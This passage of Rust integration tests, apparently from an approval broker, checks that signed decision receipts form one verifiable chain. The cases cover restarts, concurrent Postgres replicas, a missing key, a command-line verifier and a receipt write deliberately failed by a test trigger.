async fn with_sqlite_and_no_key_one_is_generated_beside_the_database_and_kept_across_restarts() {
    let app = spawn_app().await;
    let key_file = app.dir.path().join("approvals.db.receipt-key.pem");
    let key_text = std::fs::read_to_string(&key_file).expect("a generated key file");
    assert!(key_text.starts_with("-----BEGIN PRIVATE KEY-----"));
    submit(&app, batch("s", vec![call("c1", "t", "{}")])).await;
    approve(&app, "s", "c1").await;
    let first = get_receipt(&app, "s", "c1").await.unwrap();
    let app = app.restart().await;
    assert_eq!(std::fs::read_to_string(&key_file).unwrap(), key_text);
    submit(&app, batch("s", vec![call("c2", "t", "{}")])).await;
    deny(&app, "s", "c2", "no").await;
    let second = get_receipt(&app, "s", "c2").await.unwrap();
    assert_eq!(first.key, second.key, "the same key after a restart");
    let key = PublicKey::parse(&second.key.unwrap().public_key).unwrap();
    let chain = export(&app).await;
    let summary = verify::chain(envelopes(&chain), &key).expect("one chain across restarts");
    assert_eq!(summary.receipts, 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(approvals_test_postgres),
    ignore = "not run: set APPROVALS_TEST_POSTGRES_URL to run the Postgres tests"
)]
async fn postgres_replicas_deciding_at_once_append_to_one_unforked_chain() {
    let one = spawn_app_on(Backend::postgres(), with_key).await;
    let two = one.replica(with_key).await;
    let ids: Vec<String> = (0..24).map(|i| format!("c{i}")).collect();
    for id in &ids {
        submit(&one, batch(id, vec![call(id, "t", "{}")])).await;
    }
    let decide_all = |app: &TestApp, ids: Vec<String>| {
        let approver = app.approver();
        async move {
            for id in ids {
                let mut approver = approver.clone();
                approver
                    .decide(decide_request(&id, &id, pb::Decision::Approve, ""))
                    .await
                    .expect("decide");
            }
        }
    };
    let (evens, odds): (Vec<_>, Vec<_>) = ids
        .iter()
        .cloned()
        .partition(|id| id.trim_start_matches('c').parse::<u32>().unwrap() % 2 == 0);
    tokio::join!(decide_all(&one, evens), decide_all(&two, odds));
    let chain = export(&two).await;
    assert_eq!(chain.len(), ids.len());
    verify::chain(envelopes(&chain), &the_key()).expect("one chain, in order, unforked");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(approvals_test_postgres),
    ignore = "not run: set APPROVALS_TEST_POSTGRES_URL to run the Postgres tests"
)]
async fn receipts_on_postgres_without_a_key_refuse_to_start_naming_the_setting() {
    let schema = fresh_schema(&postgres_url()).await;
    let mut config = Config::for_tests(schema.url());
    config.receipts.mode = ReceiptsMode::On;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let err = approval_broker::startup::run(listener, config, std::future::pending())
        .await
        .unwrap_err();
    assert!(err.to_string().contains("--receipt-key"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_verify_command_passes_a_good_chain_and_fails_naming_what_is_wrong() {
    let app = spawn_app_on(Backend::Sqlite, with_key).await;
    decide_every_way(&app).await;
    let chain = export(&app).await;
    let dir = tempfile::tempdir().unwrap();
    let key_file = dir.path().join("key.pub");
    std::fs::write(&key_file, the_key().to_pem()).unwrap();
    let run = |lines: Vec<&str>| {
        let file = dir.path().join("chain.jsonl");
        std::fs::write(&file, lines.join("\n")).unwrap();
        let out = broker_binary()
            .arg("verify")
            .arg("--key")
            .arg(&key_file)
            .arg(&file)
            .output()
            .unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let good = envelopes(&chain);
    let (ok, stdout, stderr) = run(good.clone());
    assert!(ok, "{stderr}");
    assert!(stdout.contains("9 receipts, sequence 1 to 9"), "{stdout}");
    let mut swapped = good.clone();
    swapped.swap(0, 1);
    let (ok, _, stderr) = run(swapped);
    assert!(!ok);
    assert!(
        stderr.contains("verification FAILED: receipt 2"),
        "{stderr}"
    );
    let other = Notary::from_seed(&[6; 32]).unwrap();
    std::fs::write(&key_file, other.public_key().to_base64()).unwrap();
    let (ok, _, stderr) = run(good[..1].to_vec());
    assert!(!ok);
    assert!(stderr.contains("signature does not verify"), "{stderr}");
}

/// A receipt row that cannot be stored (a trigger planted here by hand refuses call `c7`'s)
/// fails that outcome's write alone, as any write of a group fails alone: SQLite's writer
/// inserts each receipt as its write runs, not with the group's commit, so the decisions sent
/// with it all stand, each with its verified receipt, and the failed call stays pending. The
/// group that started over without it continues the chain from what is stored, not from the
/// head the abandoned transaction had moved (SQLite's writer keeps the head in the transaction
/// and writes it at commit), so the chain stays whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_receipt_that_cannot_be_stored_fails_its_own_decision_alone() {
    let app = spawn_app_on(Backend::Sqlite, with_key).await;
    let ids: Vec<String> = (0..32).map(|i| format!("c{i}")).collect();
    for id in &ids {
        submit(&app, batch(id, vec![call(id, "t", "{}")])).await;
    }
    app.run_sql(
        "CREATE TRIGGER planted BEFORE INSERT ON receipts WHEN NEW.call_id = 'c7' \
         BEGIN SELECT RAISE(ABORT, 'planted'); END",
    )
    .await;
    let decisions = approve_all_at_once(&app, &ids);
    for (id, decision) in ids.iter().zip(decisions) {
        let answer = decision.await.unwrap();
        if id == "c7" {
            assert!(answer.is_err(), "the planted trigger refuses its receipt");
            continue;
        }
        answer.unwrap_or_else(|status| panic!("{id} failed with c7: {status}"));
        let receipt = get_receipt(&app, id, id)
            .await
            .expect(id)
            .receipt
            .expect(id);
        assert!(receipt.verified, "{id}");
    }
    assert!(matches!(
        states(&app, "c7", &["c7"]).await[0].state,
        Some(pb::call_state::State::Pending(_))
    ));
    let chain = export(&app).await;
    assert_eq!(chain.len(), ids.len() - 1);
    verify::chain(envelopes(&chain), &the_key()).expect("one chain, in order");
}

/// Approves each call `id` of session `id` at once (one RPC each, all in flight together, so
/// they commit in groups); each decision's answer, in the order of `ids`.
fn approve_all_at_once(
    app: &TestApp,
    ids: &[String],
) -> Vec<tokio::task::JoinHandle<Result<tonic::Response<pb::DecideResponse>, tonic::Status>>> {
    ids.iter()
        .map(|id| {
            let mut approver = app.approver();
            let request = decide_request(id, id, pb::Decision::Approve, "");
            tokio::spawn(async move { approver.decide(request).await })
        })
        .collect()
}
